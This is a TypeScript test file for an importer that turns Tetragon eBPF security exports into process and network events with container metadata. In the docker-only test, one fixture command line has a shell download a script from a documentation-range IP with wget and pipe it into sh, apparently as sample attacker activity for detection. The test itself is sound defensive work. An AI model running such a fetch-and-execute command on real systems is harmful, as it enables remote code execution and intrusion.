import { describe, expect, it } from 'vitest';
import { createReadStream } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { TetragonImporter, readTetragon, splitTetragonArgs } from './tetragon.js';
import { ProcessTable } from './process-table.js';
import type { EventFormatError } from './ndjson.js';
import type { KestrelEvent } from './events.js';

const FIXTURE = fileURLToPath(new URL('./fixtures/tetragon-export.json', import.meta.url));

async function load(): Promise<{ evs: KestrelEvent[]; errors: EventFormatError[]; imp: TetragonImporter }> {
  const imp = new TetragonImporter();
  const errors: EventFormatError[] = [];
  const evs: KestrelEvent[] = [];
  for await (const ev of readTetragon(createReadStream(FIXTURE), imp, (e) => errors.push(e), 'export.json')) evs.push(ev);
  return { evs, errors, imp };
}

describe('splitTetragonArgs', () => {
  it('unwraps quoted arguments with spaces, without escapes', () => {
    expect(splitTetragonArgs('-c "echo hello world > /tmp/x" --verbose')).toEqual(['-c', 'echo hello world > /tmp/x', '--verbose']);
    expect(splitTetragonArgs('-g "daemon off;"')).toEqual(['-g', 'daemon off;']);
    expect(splitTetragonArgs('a  b')).toEqual(['a', 'b']);
    expect(splitTetragonArgs('say "hi"there')).toEqual(['say', '"hi"there']);
  });
});

describe('Tetragon import', () => {
  it('maps the export onto Kestrel events', async () => {
    const { evs, errors, imp } = await load();
    expect(errors.map((e) => e.message)).toEqual([expect.stringMatching(/^export\.json:16:\d+: invalid JSON/)]);
    const kinds = evs.map((e) => (e.type === 'exec' && e.synthetic === true ? 'exec*' : e.type) + ':' + e.pid);
    expect(kinds).toEqual([
      'exec*:52650', 'exec:52699', 'connect:52699', 'exit:52699',
      'exec:52710', 'exit:52710',
      'exec*:1', 'exec:60001', 'connect:60001', 'exit:60001',
      'exec:60001',
      'exec*:777', 'connect:777',
    ]);
    const curl = evs[1];
    if (curl.type !== 'exec') throw new Error('exec expected');
    expect(curl.argv).toEqual(['/usr/bin/curl', 'https://ebpf.io/applications/#tetragon']);
    expect(curl.ppid).toBe(52650);
    expect(curl.loginuid).toBeUndefined();
    expect(curl.ts).toBe(1696629837700326678n);
    expect(curl.vpid).toBe(49);
    expect(curl.container).toEqual({
      id: '551e161c47d8ff0eb665438a7bcd5b4e3ef5c297282998d6a6d43562b3bdd4c6', name: 'spaceship',
      image: 'docker.io/tgraf/netperf:latest', pod: 'xwing', namespace: 'default',
    });
    expect(evs[2]).toMatchObject({ type: 'connect', family: 'inet', daddr: '104.198.14.52', dport: 443, saddr: '10.168.0.45', sport: 48272, proto: 'tcp', ret: 0 });
    const cat = evs[4];
    if (cat.type !== 'exec') throw new Error('exec expected');
    // Docker-only prefix widened to the full id seen before.
    expect(cat.container?.id).toBe('551e161c47d8ff0eb665438a7bcd5b4e3ef5c297282998d6a6d43562b3bdd4c6');
    expect(cat.loginuid).toBe(1000);
    expect(evs[5]).toMatchObject({ type: 'exit', code: 1 });
    const sh = evs[7];
    if (sh.type !== 'exec') throw new Error('exec expected');
    expect(sh.argv).toEqual(['/bin/sh', '-c', 'echo hello world > /tmp/x', '--verbose']);
    expect(sh.container).toBeUndefined();
    expect(sh.ppid).toBe(1);
    expect(evs[8]).toMatchObject({ type: 'connect', daddr: '10.96.0.1', dport: 443, saddr: '192.168.1.10', sport: 51234 });
    expect(evs[12]).toMatchObject({ type: 'connect', family: 'inet6', daddr: '2001:db8::1', dport: 8080 });
    expect(imp.summary.skipped).toEqual({
      'process_kprobe:security_file_permission': 1, process_close: 1, 'process_exit (stale exec_id)': 1,
      process_tracepoint: 1, process_listen: 1,
    });
    expect(imp.summary.produced).toEqual({ exec: 4, 'exec (synthetic)': 3, connect: 3, exit: 3 });
  });

  it('feeds a process table with ancestry and containers', async () => {
    const { evs } = await load();
    const t = new ProcessTable();
    const ctxs = evs.map((e) => t.apply(e));
    const connect = ctxs[2];
    expect(connect.process?.exe).toBe('/usr/bin/curl');
    expect(connect.ancestors().map((p) => p.exe)).toEqual(['/bin/bash']);
    expect(connect.container?.imageRepository).toBe('docker.io/tgraf/netperf');
    expect(connect.container?.pod).toBe('xwing');
    expect(ctxs[4].container?.name).toBe('spaceship');
    expect(ctxs[10].process?.exe).toBe('/usr/bin/nc');
    expect(ctxs[12].process?.uid).toBe(101);
  });
});

describe('Tetragon docker-only export', () => {
  it('handles 12-digit docker ids, exec in place, own-pid parents, missing sock args and time', async () => {
    const imp = new TetragonImporter();
    const evs: KestrelEvent[] = [];
    const file = fileURLToPath(new URL('./fixtures/tetragon-docker.json', import.meta.url));
    for await (const ev of readTetragon(createReadStream(file), imp)) evs.push(ev);
    expect(evs.map((e) => (e.type === 'exec' && e.synthetic === true ? 'exec*' : e.type) + ':' + e.pid)).toEqual([
      'exec*:1', 'exec:31000', 'exec:31200', 'connect:31200', 'exec:31200', 'exit:31200',
    ]);
    const sh = evs[2];
    if (sh.type !== 'exec') throw new Error('exec');
    // Only the docker field: that container, by the id Tetragon gives (12 hex digits here).
    expect(sh.container).toEqual({ id: '8e1f6f1d5c2a' });
    expect(sh.argv).toEqual(['/bin/sh', '-c', 'wget -qO- http://198.51.100.4/a | sh']);
    const a = evs[4];
    if (a.type !== 'exec') throw new Error('exec');
    // Exec in place: its parent record has the same pid, so no ppid from it (never its own parent).
    expect(a.ppid).toBe(31000);
    // The full id extends the 12 digits seen first: still the same container.
    expect(a.container).toEqual({ id: '8e1f6f1d5c2a', name: 'web', privileged: true, image: 'registry.local:5000/team/web:v3', pod: 'web', namespace: 'default' });
    expect(a.vpid).toBe(7);
    // No `time` on the exit: it takes the last time seen, keeping the stream in order.
    expect(evs[5]).toMatchObject({ type: 'exit', code: 137, ts: evs[4].ts });
    expect(imp.summary.skipped).toEqual({ 'process_kprobe:tcp_connect': 1, process_loader: 1, rate_limit_info: 1 });
    const t = new ProcessTable();
    const ctxs = evs.map((e) => t.apply(e));
    expect(ctxs[3].container?.id).toBe('8e1f6f1d5c2a');
    expect(ctxs[4].container?.cgroupId).toBe(ctxs[3].container?.cgroupId);
    expect(ctxs[4].container?.imageRepository).toBe('registry.local:5000/team/web');
    expect(ctxs[4].container?.imageTag).toBe('v3');
  });
});
